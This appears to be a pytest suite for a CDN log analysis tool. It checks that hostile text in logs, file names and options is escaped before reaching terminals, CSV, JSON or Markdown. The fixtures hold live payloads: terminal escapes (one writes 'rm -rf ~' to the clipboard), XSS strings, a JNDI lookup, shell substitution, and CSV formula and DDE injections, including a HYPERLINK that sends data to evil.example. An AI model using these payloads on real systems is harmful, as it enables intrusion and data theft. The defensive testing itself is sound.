"""Hostile text through every sink: what strangers write into a log, or users mistype, reaches no terminal raw."""

from __future__ import annotations

import csv
import errno
import gzip
import io
import itertools
import json
import os
import pty
import re
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from test_cases import Result, environment, line, log, run_here

from cdnlog.text import csv_cell, markdown_cell, visible

FORGED = "cdnlog: all is well"
HOSTILE = {
    "escapes": "\x1b]0;pwned\x07\x1b[2J\x1b[Hall green",
    "clipboard": "a\x1b]52;c;cm0gLXJmIH4=\x07b",
    "c1": "\x9b2J\x85\x9d0;t\x9c",
    "backspace": "good\x08\x08\x08\x08evil",
    "delete": "a\x7fb",
    "bidi": "evil\u202egpj.exe\u2066\u061c",
    "zero width": "a\u200bb\u2060c\ufeffd\u00ade",
    "line separators": "a\u2028b\u2029c",
    "unassigned": "\u0378\ue000\U000e0001\U0010ffff",
    "no utf-8": b"\xff\xc0\xaf\xed\xa0\x80z".decode("utf-8", "surrogateescape"),
    "script": "</script><img src=x onerror=alert(1)>",
    "attribute": '"onmouseover=alert(1) x="',
    "console markup": "[/red][bold]x[/]",
    "markdown": r"a | **b** `c` [d](e) ![f](g) ~~h~~ # i <!-- \ &amp; __j__ \| <b>",
    "math": "$x^2$ $$y$$",
    "format": "{0.__class__} {x!r} %s%n %(a)s ${jndi:ldap://x/a} {{7*7}}",
    "shell": "$(id) `id` ;id",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "command": "=10+20+cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "bar": "|calc",
    "percent": "%0A",
    "tab": "\t=1+1",
    "space": " =1+1",
    "wide space": "\u3000=1+1",
    "hard space": "\u00a0=1+1",
    "wide sign": "\uff1d1+1",
    "quote": '"=1+1',
    "names": "\u793a\u4f8b\u6d4f\u89c8\u5668 Caf\u00e9 \U0001f600",
}
REJECTED = {"carriage return": "a\r200 OK", "nul": "a\0b", "form feed": "a\fb", "vertical tab": "a\vb"}
NAMES = {**HOSTILE, "two lines": f"two\n{FORGED}", "carriage return": f"a\r{FORGED}"}
HIDDEN = ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
MISTYPED = (
    "escapes", "c1", "delete", "bidi", "zero width", "line separators", "unassigned", "no utf-8", "console markup",
    "format", "shell", "two lines", "carriage return",
)  # fmt: skip
FORMULA = "=+-@|%\uff1d\uff0b\uff0d\uff20"
BY = ("path", "query", "referer", "user_agent")
OUTPUTS = ("table", "json", "csv", "markdown", "html")
OPTIONS = (
    "--format", "--provider", "--by", "--tz", "--log-tz", "--window", "--since", "--until", "--jobs", "--max-rejects",
    "--domain", "--domain-name", "--schemas", "-o",
)  # fmt: skip
# What the progress bar writes on a terminal: hide and show the cursor, colours, go up, clear the line.
PROGRESS = re.compile(rb"\x1b\[\?25[lh]|\x1b\[[0-9;]*m|\x1b\[[0-9]*[AK]|\r")


def dirty(data: bytes) -> list[str]:
    """Return the characters that no sink may let through: all but printable UTF-8 and LF."""
    return [c for c in data.decode() if c != "\n" and unicodedata.category(c) in HIDDEN]


def assert_clean(result: Result) -> None:
    """Hold that a run did not crash, that both streams are clean, and that no line of them is forged."""
    assert result.code in (0, 2, 3, 74), result.err
    assert dirty(result.out) == []
    assert dirty(result.err) == []
    lines = (result.out + b"\n" + result.err).decode().split("\n")
    assert [one for one in lines if one.startswith(FORGED)] == []
    assert b"Traceback" not in result.err
    assert b"a bug of ours" not in result.err


def formulas(text: str) -> list[str]:
    """Return the cells of a CSV text that a spreadsheet might run; numbers are none."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    suspect = [cell for cell in cells if cell.lstrip()[:1] in tuple(FORMULA) or cell[:1] in ("\t", "\r", "\n")]
    return [cell for cell in suspect if not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell)]


@pytest.fixture(scope="module")
def hostile_log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A log whose agents, referers, paths and hosts are hostile, each in turn."""
    path = tmp_path_factory.mktemp("hostile") / "a.log"
    lines = []
    for at, text in enumerate([*HOSTILE.values(), *REJECTED.values()]):
        bare = text.replace(" ", "+")
        lines += [line(500, at, agent=text), line(500, at, referer=text), line(500, at, path=f"{bare}?{bare}")]
        lines += [line(500, at, path=f"/{bare}"), line(500, at, host=bare)]
    path.write_bytes("".join(f"{one}\n" for one in lines).encode("utf-8", "surrogateescape"))
    return path


@pytest.mark.parametrize("output", OUTPUTS)
@pytest.mark.parametrize("command", ["count", *(f"count --by {name}" for name in BY), "diagnose", "formats detect"])
def test_no_output_lets_log_text_through(hostile_log: Path, command: str, output: str) -> None:
    """Whatever a log holds, standard output and standard error stay printable."""
    result = run_here([*command.split(), "a.log", "-o", output], hostile_log.parent)
    assert_clean(result)
    if output == "json":
        assert result.out.isascii()
        json.loads(result.out)
    if output == "csv":
        assert formulas(result.out.decode()) == []
    if command.endswith("user_agent"):
        assert b"x1b" in result.out


def test_hosts_are_one_word_or_invalid(hostile_log: Path) -> None:
    """No hostile host is a domain of its own."""
    done = run_here(["count", "a.log", "--by", "domain", "-o", "json"], hostile_log.parent)
    domains = {row["domain"] for row in json.loads(done.out)["counts"]}
    assert "(invalid)" in domains
    assert all(re.fullmatch(r"[a-z0-9._:-]+|\(invalid\)|\(none\)", domain) for domain in domains)


@pytest.mark.parametrize("suffix", ["csv", "jsonl"])
def test_rows_are_written_safely(hostile_log: Path, tmp_path: Path, suffix: str) -> None:
    """Rows in CSV hold no formula and no control, rows in JSON lines are ASCII; the text itself is kept."""
    to = tmp_path / f"rows.{suffix}"
    assert_clean(run_here(["parse", str(hostile_log), "--out", str(to)], tmp_path))
    data = to.read_bytes()
    assert dirty(data) == []
    if suffix == "csv":
        assert formulas(data.decode()) == []
        agents = {row["user_agent"].removeprefix("'") for row in csv.DictReader(io.StringIO(data.decode()))}
    else:
        assert data.isascii()
        agents = {json.loads(one)["user_agent"] for one in data.splitlines()}
    assert {visible(text) for name, text in HOSTILE.items() if name not in ("attribute", "quote")} <= agents


@pytest.mark.parametrize("name", [name for name in HOSTILE if name.endswith("space")])
def test_each_formula_is_disarmed_alone(name: str, tmp_path: Path) -> None:
    """A formula behind any kind of space is disarmed, even if nothing else in the file is suspect."""
    (tmp_path / "a.log").write_text(f"{line(agent=HOSTILE[name])}\n", encoding="utf-8")
    run_here(["parse", "a.log", "--out", "rows.csv", "--columns", "user_agent"], tmp_path)
    assert formulas((tmp_path / "rows.csv").read_text(encoding="utf-8")) == []


def test_rejects_are_written_safely(hostile_log: Path, tmp_path: Path) -> None:
    """The records of rejected lines are ASCII, and what is in them was made visible."""
    to = tmp_path / "rejects.jsonl"
    assert_clean(run_here(["count", "a.log", "--rejects", str(to)], hostile_log.parent))
    assert to.read_bytes().isascii()
    texts = [json.loads(one)["text"] for one in to.read_bytes().splitlines()]
    assert [text for text in texts if dirty(text.encode())] == []
    assert sum("\\x0d200 OK" in text for text in texts) >= 2


@pytest.mark.parametrize("column", BY)
def test_markdown_shows_log_text_as_it_stands(hostile_log: Path, column: str) -> None:
    """A cell of a Markdown table is read back as the very text, and no cell makes a row, a column or markup."""
    args = ["count", "a.log", "--by", "status", "--by", column]
    rows = json.loads(run_here([*args, "-o", "json"], hostile_log.parent).out)["counts"]
    text = run_here([*args, "-o", "markdown"], hostile_log.parent).out.decode()
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    inline = [after for before, after in itertools.pairwise(tokens) if before.type == "td_open"]
    odd = [child.type for token in inline for child in token.children or () if child.type != "text"]
    cells = ["".join(child.content for child in token.children or ()) for token in inline]
    expected = [str(cell) if cell is not None else "-" for row in rows for cell in row.values()]
    assert odd == []
    assert [cell.split() for cell in cells] == [cell.split() for cell in expected]


@pytest.fixture(scope="module")
def hostile_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of files with hostile names: unknown, good, and left out."""
    folder = tmp_path_factory.mktemp("names") / "logs"
    folder.mkdir()
    for text in NAMES.values():
        for suffix, data in ((".log", b"hello\n"), (".ok", log("200 502").encode()), (".tmp", b"")):
            Path(folder, text.replace("/", "_") + suffix).write_bytes(data)
    return folder


@pytest.mark.parametrize("output", OUTPUTS)
def test_file_names_in_results_are_made_visible(hostile_folder: Path, output: str) -> None:
    """The names of good, unknown, doubled, missing and left-out files reach no sink raw and make no line."""
    for command in ("count", "diagnose"):
        gone = [f"{text}.gone" for text in NAMES.values()]
        result = run_here([command, "-o", output, "--", "logs", "logs", *gone], hostile_folder.parent)
        assert_clean(result)
        assert (output == "csv") or b"incomplete" in result.out or b'"unknown-format"' in result.out
        assert b"duplicate" in result.err
        assert output != "csv" or formulas(result.out.decode()) == []


@pytest.mark.parametrize("name", NAMES)
def test_file_names_in_messages_are_made_visible(hostile_folder: Path, name: str) -> None:
    """A name that cannot be read or written is quoted in the message, never raw."""
    text = NAMES[name].replace("/", "_")
    assert_clean(run_here(["formats", "detect", "--", f"logs/{text}.log"], hostile_folder.parent))
    assert_clean(run_here(["formats", "detect", "--", f"{text}.gone"], hostile_folder.parent))
    assert_clean(run_here(["parse", "--out", f"{text}.csv", "--", f"logs/{text}.log"], hostile_folder.parent))
    assert_clean(run_here(["count", "--out", f"gone/{text}", "--", f"logs/{text}.ok"], hostile_folder.parent))
    assert_clean(run_here(["count", "--rejects", f"gone/{text}", "--", f"logs/{text}.ok"], hostile_folder.parent))


def test_names_of_copies_are_made_visible(tmp_path: Path) -> None:
    """The warning about two gz files of one checksum makes their names visible too."""
    for name in ("a", f"b\x1b[2J\n{FORGED}"):
        (tmp_path / f"{name}.gz").write_bytes(gzip.compress(log("200").encode(), mtime=0))
    result = run_here(["count", "."], tmp_path)
    assert_clean(result)
    assert b"same checksum" in result.err


@pytest.mark.parametrize("name", MISTYPED)
def test_wrong_options_are_made_visible(name: str, tmp_path: Path) -> None:
    """What a user gives to an option is quoted in the message, but never raw, and never crashes."""
    text = NAMES[name]
    (tmp_path / "a.log").write_text(log("200"), encoding="utf-8")
    calls = [["count", "a.log", f"{option}={text}"] for option in OPTIONS if option != "-o"]
    calls += [["count", "a.log", "-o", text], ["diagnose", "a.log", "--fail-on", text], ["explain", "--", text]]
    calls += [["count", "a.log", f"--{text}"], ["--", text], ["codes", "--provider", text], ["formats", "detect", text]]
    calls += [["parse", "a.log", "--out", "x.csv", "--columns", text], ["parse", "a.log", "--out", f"x.{text}"]]
    for args in calls:
        assert_clean(run_here(args, tmp_path))


@pytest.mark.parametrize("args", [[], ["-q"], ["-o", "markdown"], ["-o", "csv"]], ids=" ".join)
def test_a_terminal_gets_nothing_raw(hostile_log: Path, args: list[str]) -> None:
    """On a real terminal nothing but text arrives, and the progress bar's own sequences unless -q."""
    (hostile_log.parent / f"x\x1b[2J\n{FORGED}.tmp").touch()
    primary, secondary = pty.openpty()
    command = [sys.executable, "-m", "cdnlog", "count", ".", "gone\x1b]0;t\x07", "--by", "user_agent", *args]
    with subprocess.Popen(
        command, cwd=hostile_log.parent, env=environment(TERM="xterm"), stdout=secondary, stderr=secondary
    ) as process:
        os.close(secondary)
        seen = b"".join(iter(lambda: received(primary), b""))
    os.close(primary)
    screen = seen.replace(b"\r\n", b"\n")
    screen = screen if "-q" in args else PROGRESS.sub(b"", screen)
    assert_clean(Result(process.returncode, screen, b""))
    assert b"missing" in screen
    assert b"\\x1b[2J" in screen


def received(terminal: int) -> bytes:
    """Return what has arrived on a terminal, nothing at its end."""
    try:
        return os.read(terminal, 65536)
    except OSError as error:
        if error.errno != errno.EIO:  # Linux says so when the other side is closed
            raise
        return b""


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("plain ~ text", "plain ~ text"),
        ("", ""),
        ("Caf\u00e9 \u540d\u524d \U0001f600", "Caf\u00e9 \u540d\u524d \U0001f600"),
        (b"caf\xc3\xa9", "caf\u00e9"),
        (b"caf\xe9", "caf\\xe9"),
        (b"\xed\xa0\x80", "\\xed\\xa0\\x80"),
        (Path("a\x1b.log"), "a\\x1b.log"),
        ("\udcff", "\\xff"),
        ("\ud800", "\\ud800"),
        ("a\nb\tc\rd\0", "a\\x0ab\\x09c\\x0dd\\x00"),
        ("\x1b[2J\x7f", "\\x1b[2J\\x7f"),
        ("\x85\x9b\xad", "\\x85\\x9b\\xad"),
        ("\u200b\u202e\u2066\ufeff", "\\u200b\\u202e\\u2066\\ufeff"),
        ("\u2028\u2029", "\\u2028\\u2029"),
        ("\ue000\u0378", "\\ue000\\u0378"),
        ("\U000e0001\U0010ffff", "\\U000e0001\\U0010ffff"),
    ],
)
def test_visible(value: str | bytes | Path, shown: str) -> None:
    r"""Controls become \xHH, invisible and reordering marks \uHHHH, all else stays."""
    assert visible(value) == shown


@pytest.mark.parametrize(
    "value", [*"=+-@|%", "=1+1", " =1", "\t=1", "\n", "\rx", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201", "\u3000=1"]
)
def test_csv_cell_disarms(value: str) -> None:
    """Text that begins like a formula, behind any space, gets an apostrophe in front."""
    assert csv_cell(value) == f"'{value}"


@pytest.mark.parametrize("value", ["", "a", "a=1", "'=1", "5", "a\tb", '"=1+1', "(none)", "2026-11-20", "/-/+"])
def test_csv_cell_leaves_alone(value: str) -> None:
    """Text that no spreadsheet takes for a formula stays as it is."""
    assert csv_cell(value) == value


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("a b", "a b"),
        ("www.example.com", "www.example.com"),
        ("a|b", r"a\|b"),
        (r"a\|b", r"a\\\|b"),
        ("<b>&amp;", r"\<b\>\&amp;"),
        ("*_`~#!", r"\*\_\`\~\#\!"),
        ("[a](b){c}", r"\[a\]\(b\)\{c\}"),
        ("$x$", r"\$x\$"),
    ],
)
def test_markdown_cell(value: str, cell: str) -> None:
    """Every character that means something in Markdown, mathematics included, gets a backslash."""
    assert markdown_cell(value) == cell


@settings(deadline=None)
@given(st.binary())
def test_visible_holds_for_all_bytes(data: bytes) -> None:
    """Whatever the bytes are, what is shown is printable, has one line, and showing it again changes nothing."""
    shown = visible(data)
    assert dirty(shown.encode()) == []
    assert "\n" not in shown
    assert visible(shown) == shown
    assert formulas(csv_row(csv_cell(shown))) == []


def csv_row(cell: str) -> str:
    """Return a CSV text of one cell."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow([cell])
    return out.getvalue()
